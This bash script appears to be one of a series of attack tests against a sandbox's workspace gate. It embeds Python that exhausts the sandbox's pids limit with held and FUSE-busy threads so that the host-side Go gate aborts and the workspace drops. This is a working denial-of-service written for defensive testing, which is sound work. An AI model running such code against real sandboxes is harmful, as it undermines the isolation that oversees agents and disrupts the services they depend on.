#!/bin/bash
# 22: the gate's threads count against the sandbox's pids limit (doc.go:
# "its memory and threads count against the sandbox's memory and pids
# limits"). The agent takes every pid but a few, then keeps 48 threads in
# FUSE requests: the gate's Go runtime cannot start a thread and aborts
# ("pthread_create failed" / "failed to create new OS thread"), so the
# workspace is gone (ENOTCONN) until stop/start, while `airlock ls` still says
# running. Defended: the gate's runtime did not abort, and it still serves
# if the sandbox itself survived.
SB=atk22
PRE_SETUP='sed -i "s/backend = \"namespace\"/backend = \"namespace\"\n  pids = 300/" sandbox.hcl; mkdir many; for i in $(seq 1 300); do echo $i > many/$i; done'
. "$(dirname "$0")/lib.sh"
mkrepo; up
grep -q 'pids = 300' "$WS/sandbox.hcl" || setup_error "pids limit not set"
gate() { pgrep -f "__workspace-gate -folder $WS " | head -1; }
G=$(gate); [ -n "$G" ] || setup_error "no gate process"
AXT=120 ax python3 - <<'PY' 2>&1 | tail -2 | sed 's/^/  inside: /'
import threading, os, time
threading.stack_size(65536)
stop = False
def io(k):
    i = 0
    while not stop:
        p = "/workspace/many/%d" % ((k * 31 + i) % 300 + 1); i += 1
        try:
            with open(p) as f: f.read()
            os.stat(p)
        except OSError: pass
for k in range(48): threading.Thread(target=io, args=(k,), daemon=True).start()
held = 0
while True:
    try: threading.Thread(target=time.sleep, args=(20,), daemon=True).start(); held += 1
    except RuntimeError: break
print("holding", held, "extra threads"); time.sleep(15); stop = True
PY
sleep 2
# The sandbox's own processes (its init, its sshd: Go programs too) may die
# of the exhaustion they were put in; that is the sandbox's business. The
# attack is on the gate: it got through if the gate's runtime aborted, or
# if the gate is gone while the sandbox still runs.
log="$TOP/home/vm/namespace/$SB/wsgate.log"
if grep -q -E "failed to create|pthread_create|fatal error" "$log" 2>/dev/null; then
	grep -m1 -E "failed to create|pthread_create|fatal" "$log" | sed 's/^/  gate log: /'
	succeeded
fi
if ax true >/dev/null 2>&1; then
	[ "$(gate)" = "$G" ] && ax ls /workspace/many/1 >/dev/null 2>&1 && defended
	ax ls /workspace 2>&1 | head -1 | sed 's/^/  after: /'
	succeeded
fi
echo "  the sandbox itself did not survive its pids exhaustion; the gate log shows no abort"
defended
